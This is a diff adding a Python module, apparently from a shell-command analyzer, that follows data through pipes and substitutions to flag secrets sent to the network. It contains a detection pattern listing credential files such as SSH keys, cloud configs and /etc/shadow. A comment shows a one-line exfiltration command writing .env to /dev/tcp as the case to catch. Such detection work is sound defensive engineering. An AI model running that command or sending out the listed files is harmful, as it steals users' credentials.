@@ -1,0 +1,162 @@
+"""Data flow inside one text: where a value came from, and secrets that reach the network.
+
+Follows pipes (`Invocation.stdin.producers`), substitutions (`Field.origins`) and files written earlier in the same text (`Scene.sources`).
+"""
+
+from __future__ import annotations
+
+import posixpath
+from functools import cache
+
+from ..model.effect import Certainty, Effect, EffectKind, Target, TargetKind
+from ..shell.invocation import Field, Invocation, Known
+from .call import Call, Scene, path_targets
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    import re
+    from collections.abc import Iterable, Iterator
+
+NETWORK = frozenset({EffectKind.NET_CONNECT, EffectKind.NET_REMOTE_EXEC, EffectKind.NET_UPLOAD, EffectKind.NET_LISTEN})
+# The kinds through which data leaves; a listener may hand out what it is fed.
+OUTWARD = NETWORK
+# From worst to best, for a value with several sources.
+WORST_FIRST = ("network", "file", "stdin", "read", "positional", "variable", "opaque", "generated")
+# Programs that print where another program is.
+FINDERS = frozenset("which whence".split())
+# Readers that let no value of a secret through: counts, names, digests, tests.
+BLUNT = frozenset("wc sha256sum sha512sum sha1sum md5sum cksum b2sum true false sum".split())
+
+
+@cache
+def _secret_names() -> re.Pattern[str]:
+    import re
+
+    return re.compile(
+        r"(?:^|/)(?:[^/]*\.env(?:\.[^/]*)?|[^/]*credentials\.[^/]*|[^/]*secrets?\.[^/]*|[^/]*\.pem|[^/]*id_(?:rsa|dsa|ecdsa|ed25519)[^/]*)$"
+        r"|/\.ssh(?:/(?!known_hosts|config)[^/]*)?$|/\.aws(?:/|$)|/\.gnupg(?:/|$)|/\.netrc$|/\.pgpass$|/\.kube/config$|/\.docker/config\.json$"
+        r"|/\.config/(?:gh|gcloud)(?:/|$)|/\.npmrc$|/\.pypirc$|/\.git-credentials$|/\.vault-token$|^/etc/shadow$|^/etc/gshadow$",
+        re.IGNORECASE,
+    )
+
+
+def looks_secret(path: str) -> bool:
+    """Whether a path bears a name that secrets bear. Used to follow data; which files are protected is the profile's to say."""
+    name = posixpath.basename(path)
+    if name.endswith(".pub") or name.lower().endswith((".env.example", ".env.sample", ".env.template")):
+        return False
+    return _secret_names().search(path) is not None
+
+
+def looked_up(field: Field, scene: Scene) -> str:
+    """The program that a word such as `$(which rm)` or `$(command -v git)` names, or ""."""
+    for origin in field.origins:
+        for index in origin.producers:
+            words = [word.text for word in scene.invocations[index].words] if index < len(scene.invocations) else []
+            if len(words) == 2 and words[0] in FINDERS and words[1]:
+                return words[1]
+            if len(words) == 3 and (words[0], words[1]) in (("command", "-v"), ("type", "-p"), ("type", "-P")) and words[2]:
+                return words[2]
+    return ""
+
+
+def producers_of(invocation: Invocation) -> tuple[int, ...]:
+    """Invocations whose output comes into this one by pipe, by word or by redirect."""
+    found = list(invocation.stdin.producers)
+    fields = [*invocation.words, *(field for _, field in invocation.assignments)]
+    if invocation.stdin.field is not None:
+        fields.append(invocation.stdin.field)
+    for field in fields:
+        for origin in field.origins:
+            found += origin.producers
+    return tuple(found)
+
+
+def upstream(start: Iterable[int], scene: Scene) -> list[int]:
+    """These invocations and all that feed them, each once."""
+    found: list[int] = []
+    todo = list(start)
+    while todo:
+        index = todo.pop()
+        if index in found or not 0 <= index < len(scene.invocations):
+            continue
+        found.append(index)
+        todo += producers_of(scene.invocations[index])
+    return found
+
+
+def source_of(producers: Iterable[int], scene: Scene) -> str:
+    """What the output of these invocations is made of: network | file | variable | generated ...; the worst one."""
+    seen = {"generated"}
+    for index in upstream(producers, scene):
+        for effect in scene.effects_of.get(index, ()):
+            if effect.kind in NETWORK:
+                seen.add("network")
+            elif effect.kind in (EffectKind.FILE_READ, EffectKind.CODE_SCRIPT):
+                seen.add(scene.sources.get(effect.target.text, "file"))
+        for field in scene.invocations[index].words:
+            seen.update(origin.kind for origin in field.origins if origin.kind in WORST_FIRST)
+    return next(kind for kind in WORST_FIRST if kind in seen)
+
+
+def source_of_field(field: Field, scene: Scene) -> str:
+    """Where the unknown part of a word comes from, in the words of `source_of`."""
+    seen = set()
+    for origin in field.origins:
+        if origin.producers:
+            seen.add(source_of(origin.producers, scene))
+        else:
+            seen.add(origin.kind if origin.kind in WORST_FIRST else "generated")
+    return next((kind for kind in WORST_FIRST if kind in seen), "variable")
+
+
+def secrets_of(index: int, scene: Scene) -> Iterator[str]:
+    """Secrets in the output of an invocation: the paths or stores it reads."""
+    invocation = scene.invocations[index]
+    name = invocation.words[0].text if invocation.words else ""
+    if name in BLUNT:
+        return
+    for effect in scene.effects_of.get(index, ()):
+        if effect.kind is EffectKind.SECRET_READ:
+            yield effect.target.text or effect.get("store")
+        elif effect.kind is EffectKind.FILE_READ and looks_secret(effect.target.text):
+            yield effect.target.text
+
+
+def uploads(index: int, invocation: Invocation, effects: list[Effect], scene: Scene) -> list[Effect]:
+    """A `net.upload` with secret=1 for each secret that flows into a command that talks to the network."""
+    outward = [effect for effect in effects if effect.kind in OUTWARD and not effect.get("secret")]
+    if not outward:
+        return []
+    found = []
+    for producer in upstream(producers_of(invocation), scene):
+        for secret in secrets_of(producer, scene):
+            first = outward[0]
+            pairs = {**dict(first.attributes), "upload": "secret", "secret": "1", "path": secret}
+            found.append(first.replace(kind=EffectKind.NET_UPLOAD, attributes=tuple(sorted(pairs.items()))))
+    for effect in effects:
+        # `cat .env > /dev/tcp/host/port`: the same command reads and sends.
+        if effect.kind is EffectKind.FILE_READ and looks_secret(effect.target.text) and any(one.get("stream") for one in outward):
+            pairs = {"upload": "secret", "secret": "1", "path": effect.target.text}
+            found.append(outward[0].replace(kind=EffectKind.NET_UPLOAD, attributes=tuple(sorted(pairs.items()))))
+    return found
+
+
+def named_secrets(call: Call, scene: Scene) -> Iterator[Effect]:
+    """Secrets that a program is given by name (`tool .env`, `tool --file=.env`, `tool @.env`): it may read them."""
+    for field in call.argv:
+        for value in field.values if field.known is not Known.DYNAMIC else ():
+            for text in (value, value.partition("=")[2], value.lstrip("@")):
+                if not text or text.startswith("-") or len(text) > 400 or not looks_secret("/" + text):
+                    continue
+                for target, _ in path_targets(field.replace(values=(text,)), call.invocation.cwd):
+                    yield call.effect(EffectKind.FILE_READ, target, certainty=Certainty.POSSIBLE)
+                break
+
+
+def object_target(field: Field, kind: TargetKind = TargetKind.OBJECT) -> Target:
+    """A named thing that is no path: the word's value, or its literal prefix with the reason why the rest is not known."""
+    text = field.text
+    if text is not None:
+        return Target(kind, text)
+    return Target(kind, field.prefix if field.known is Known.DYNAMIC else "|".join(field.values), field.reason or "one of several values")
